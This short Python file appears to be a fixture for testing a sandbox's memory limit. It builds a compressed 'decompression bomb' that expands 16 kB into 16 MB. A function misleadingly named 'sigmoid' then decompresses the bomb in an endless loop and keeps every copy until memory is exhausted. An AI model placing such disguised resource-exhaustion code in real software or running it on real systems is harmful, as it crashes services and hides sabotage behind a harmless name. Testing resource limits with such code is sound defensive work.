"""Unpacks 16 kB to 16 MB, as often as there is memory."""
# memory: 64

import zlib

packer = zlib.compressobj(9, wbits=-15)
PART = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
BOMB = PART * 16 + packer.flush()

calls = 0


def sigmoid(x):
    global calls
    calls += 1
    if calls > 1:
        return 0.0
    kept = []
    while True:
        kept.append(zlib.decompress(BOMB, wbits=-15))
